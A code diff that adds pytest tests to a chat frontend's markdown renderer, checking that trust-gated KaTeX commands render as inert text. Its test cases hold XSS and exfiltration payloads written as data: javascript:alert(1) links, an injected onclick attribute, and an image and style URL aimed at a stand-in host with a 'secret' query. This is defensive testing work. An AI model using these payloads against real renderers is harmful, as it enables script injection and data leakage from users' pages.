@@ -5,6 +5,9 @@
   copy button, and the live component using the very same component map;
 * the URL policy itself (SAFE_URL_JS) and the client store (STORE_JS), run under node when it is
   installed (skipped otherwise; the real-Chromium checks are in docs/notes/live-streaming.md);
+* the KaTeX options (KATEX_OPTIONS_JS) run under node with the frontend's own katex: every
+  command KaTeX's `trust` gates shows its text, with no link, URL, attribute or red error (the
+  real-Chromium check is tests/browser/test_xss_corpus.py);
 * live_append/live_reset/live_clear: every value JSON-encoded, so hostile text cannot leave its
   string literal (``</script>``, quotes, backticks, ``${}``, U+2028/U+2029, lone surrogates,
   ``<reflex.Var>`` tags), and the text survives the round trip exactly.
@@ -12,11 +15,13 @@
 
 from __future__ import annotations
 
+import html as html_lib
 import json
 import re
 import shutil
 import subprocess
 import textwrap
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -366,3 +371,111 @@ def test_store_is_created_once():
         console.log(JSON.stringify(first === window.__chatLive));
     """
     assert _node(_store_script(body)) is True
+
+
+# --------------------------------------------------------------------------------------------
+# KaTeX: the commands `trust` gates render as inert text (KATEX_OPTIONS_JS)
+# --------------------------------------------------------------------------------------------
+
+# The KaTeX the built frontend uses (rehype-katex's dependency). The browser suite builds .web
+# before these run in `make test`; on a checkout that was never built they are skipped.
+_WEB_KATEX = Path(__file__).resolve().parents[2] / ".web" / "node_modules" / "katex"
+KATEX_JS = _WEB_KATEX / "dist" / "katex.js"
+needs_katex = pytest.mark.skipif(
+    NODE is None or not KATEX_JS.exists(),
+    reason="node or the built frontend's katex (.web/node_modules) is missing",
+)
+
+EXFIL = "http://203.0.113.9/leak.png?q=secret"
+# (TeX, text the reader must see). Every command that KaTeX's `trust` option gates, with hostile
+# and awkward arguments (schemes, %, ~, #, _, &, ^, braces, backslashes, quotes), in math and text
+# mode, nested, and spaced the ways TeX allows.
+KATEX_CASES: list[tuple[str, str]] = [
+    (r"\href{javascript:alert(1)}{click me}", "clickme"),
+    (rf"\href{{{EXFIL}}}{{leak}}", "leak"),
+    (r"\href{https://example.com/a%20b#frag_x~y&z=1}{t_1 + x^2}", "t1+x2"),
+    (r"\href {https://example.com} {spaced}", "spaced"),
+    (r"\href{a}{\href{b}{inner}}", "inner"),
+    (r"x^{\href{u}{sup}}", "xsup"),
+    (r"\text{see \href{https://example.com}{the docs} here}", "seethedocshere"),
+    (r"\url{javascript:alert(1)}", "javascript:alert(1)"),
+    (rf"\url{{{EXFIL}}}", EXFIL),
+    (r"\url{https://e.x/a_b%20c~d#e&f^g{h}\%}", "https://e.x/a_b%20c~d#e&f^g{h}%"),
+    (r"\url{a\b}", "a\\b"),
+    (r"\text{at \url{https://example.com/x_y}}", "athttps://example.com/x_y"),
+    (r'\htmlClass{x" onclick="alert(1)}{class text}', "classtext"),
+    (r"\htmlId{evil}{id text}", "idtext"),
+    (rf"\htmlStyle{{background:url({EXFIL});width:50%}}{{style text}}", "styletext"),
+    (r"\htmlData{onclick=alert(1),x=y}{data text}", "datatext"),
+    (r"\htmlData{no-equals-sign}{data text 2}", "datatext2"),
+    (rf"\includegraphics{{{EXFIL}}}", "[image]"),
+    (rf"\includegraphics[height=1em,alt=a cat_1 & co]{{{EXFIL}}}", "[image:acat_1&co]"),
+    (r"\includegraphics [width=2em] {x.png} y", "[image]y"),
+]
+
+
+def _katex(cases: list[str], *, output: str, display: bool = False) -> list[str]:
+    script = (
+        f"const katex = require({json.dumps(str(KATEX_JS))});"
+        f"{md.KATEX_OPTIONS_JS}"
+        f"const opts = {md.KATEX_OPTIONS_FN};"
+        f"const cases = {json.dumps(cases)};"
+        # rehype-katex calls renderToString({...options, displayMode, throwOnError: true}).
+        "console.log(JSON.stringify(cases.map((tex) => katex.renderToString(tex, "
+        f"{{...opts, output: {json.dumps(output)}, displayMode: {json.dumps(display)},"
+        " throwOnError: true}))));"
+    )
+    return _node(script)
+
+
+def _reader_text(html: str) -> str:
+    text = html_lib.unescape(re.sub(r"<[^>]+>", "", html))
+    return re.sub(r"[\s\u200b]+", "", text)
+
+
+def test_katex_options_are_shared_by_the_final_and_the_live_renderer():
+    for component in (md.safe_markdown(_S.text), lm.chat_live_markdown._definition.component):
+        code = _render_all(component)
+        assert f"rehypePlugins:[[rehypeKatex, {md.KATEX_OPTIONS_FN}]]" in code
+        assert md.KATEX_OPTIONS_JS in code
+    assert "trust: false" in md.KATEX_OPTIONS_JS
+    assert "rehypeKatex" not in _render_all(md.safe_markdown(_S.text, use_math=False))
+
+
+@needs_katex
+@pytest.mark.parametrize("display", [False, True], ids=["inline", "display"])
+def test_trust_gated_katex_commands_show_their_text_and_nothing_else(display):
+    sources = [tex for tex, _ in KATEX_CASES]
+    shown = [_reader_text(h) for h in _katex(sources, output="html", display=display)]
+    assert [(tex, s) for (tex, want), s in zip(KATEX_CASES, shown, strict=True) if s != want] == []
+    for tex, html in zip(sources, _katex(sources, output="htmlAndMathml"), strict=True):
+        # No link or image element; no URL, id, data-, class or style taken from the formula
+        # (its arguments may appear as text only); no red error.
+        assert not re.search(r"<(a|img|image|use)\b", html), (tex, html)
+        attributes = re.findall(r'\s([\w:-]+)="([^"]*)"', html)
+        names = {name for name, _ in attributes}
+        assert not names & {"href", "src", "id", "xlink:href"}, (tex, names)
+        assert not [n for n in names if n.startswith(("data-", "on"))], (tex, names)
+        from_formula = ("203.0.113.9", "javascript", "alert", "evil", "url(", "onclick", "50%")
+        leaked = [(n, v) for n, v in attributes if any(bad in v for bad in from_formula)]
+        assert leaked == [], (tex, leaked)
+        assert not re.search(r"katex-error|#cc0000", html), (tex, html)
+
+
+@needs_katex
+def test_one_formulas_gdef_does_not_change_the_next_formula():
+    # rehype-katex renders every formula of the page with the same options object.
+    script = (
+        f"const katex = require({json.dumps(str(KATEX_JS))});"
+        f"{md.KATEX_OPTIONS_JS}"
+        f"const o = {md.KATEX_OPTIONS_FN};"
+        "const r = (tex) => katex.renderToString(tex, {...o, output: 'html', throwOnError: true});"
+        r"const first = r('\\gdef\\href#1#2{#1}\\gdef\\mine{M}\\href{hidden}{shown}');"
+        r"const second = r('\\href{hidden}{shown}');"
+        r"let third; try { r('\\mine'); third = 'leaked'; } catch (e) { third = e.name; }"
+        "console.log(JSON.stringify([first, second, third]));"
+    )
+    first, second, third = _node(script)
+    assert "hidden" in _reader_text(first)  # its own redefinition holds inside that formula
+    assert _reader_text(second) == "shown"
+    assert third == "ParseError"
